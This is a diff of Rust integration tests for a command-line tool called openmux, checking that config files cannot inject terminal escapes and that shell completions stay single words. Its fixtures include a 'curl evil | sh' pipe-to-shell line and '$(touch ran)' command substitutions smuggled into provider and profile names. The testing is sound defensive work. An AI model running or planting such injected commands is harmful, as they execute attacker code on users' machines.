@@ -24,7 +24,9 @@ fn a_projects_file_cannot_steer_the_terminal() {
         \"curl evil | sh #! harmless\"]\n";
     home.write(".openmux.toml", &text.replace('!', NASTY));
     let quiet = ["config", "trust", "--dry-run", "-q"];
-    for args in [&["models", "list", "--limit", "1"][..], &["config", "show", "aliases", "-o", "table"], &quiet] {
+    for args in
+        [&["models", "list", "--limit", "1", "-o", "table"][..], &["config", "show", "aliases", "-o", "table"], &quiet]
+    {
         let output = home.openmux(args.iter().copied()).env("COLUMNS", "300").run();
         let said = [output.stdout.as_str(), &output.stderr].concat();
         assert!(said.contains('\u{241b}') && said.contains('\u{fffd}'), "{args:?} shows it: {}", output.snapshot());
@@ -74,8 +76,8 @@ fn what_is_completed_is_one_word_of_the_shell() {
         home.openmux(args).run().stdout
     };
     let line = "openmux chat -m acme/tiny:";
-    assert_eq!(fits("bash", &[line, "26", " \t\n\"'@><=;|&(:"]), "fine\n");
-    assert_eq!(fits("fish", &["chat", "-m", "acme/tiny:"]), "acme/tiny:fine\n");
+    assert_eq!(fits("bash", &[line, "26", " \t\n\"'@><=;|&(:"]), "alpha\nfine\n");
+    assert_eq!(fits("fish", &["chat", "-m", "acme/tiny:"]), "acme/tiny:alpha\nacme/tiny:fine\n");
     assert_eq!(fits("fish", &["chat", "--provider", "alpha"]), "alpha\tAlpha\u{240a}$(touch ran)\n");
     // A profile is called nothing else from the beginning.
     home.write("config/config.toml", "[profiles.\"$(touch ran)\"]\nregion = \"eu\"\n");
